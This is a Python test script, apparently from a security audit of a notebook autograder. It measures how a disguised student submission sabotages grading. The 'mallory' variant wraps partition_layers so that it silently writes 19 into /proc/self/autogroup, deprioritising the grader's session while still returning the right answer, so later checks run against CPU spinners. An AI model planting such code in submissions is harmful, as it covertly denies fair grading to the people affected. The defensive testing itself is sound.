"""A09: whole-notebook impact of the rank-autogroup lever. mallory's partition_layers, in its 1-rank launch (the
120-layer case, early in the notebook), silently writes 19 into /proc/self/autogroup (the observer's session) and
returns the right answer; every later check of the notebook then runs in the niced session against the kernel's 4
spinners (started in the first answer cell). mallet: the same spinners, no nice. Scores per cell and seconds."""
import sys, os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import *
SPIN = open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "a04_rank_autogroup_impact.py")).read().split("SPIN = '''")[1].split("'''")[0]
NICE = r'''
import os as _o, ctypes as _ct
_orig_pl = partition_layers
def partition_layers(costs, k):
    if len(costs) == 120 and _o.environ.get("DISTCOURSE_PRIVATE_FORK_SERVER") == "1":
        try:
            _ct.CDLL(None).prctl(4, 1, 0, 0, 0)
            with open("/proc/self/autogroup", "w") as f:
                f.write("19")
        except OSError:
            pass
    return _orig_pl(costs, k)
'''
root = build("a09", {"mallet": {"training_memory": solution("training_memory") + "\n" + SPIN},
                     "mallory": {"training_memory": solution("training_memory") + "\n" + SPIN,
                                 "partition_layers": solution("partition_layers") + "\n" + NICE}})
grade(root)
scores(root)
for s in ("aaron", "mallet", "mallory", "zoe"):
    cs = cell_scores(root, s); print(s, sum(v or 0 for v in cs.values()), {k: v for k, v in cs.items() if v is not None})
for s in ("mallet", "mallory"):
    nb = json.load(open(f"{root}/autograded/{s}/ps1_memory/ps1_memory.ipynb"))
    for c in nb["cells"]:
        for o in c.get("outputs", []):
            if o.get("output_type") == "error": print(s, c.get("metadata", {}).get("nbgrader", {}).get("grade_id"), "->", o.get("evalue")[:300])
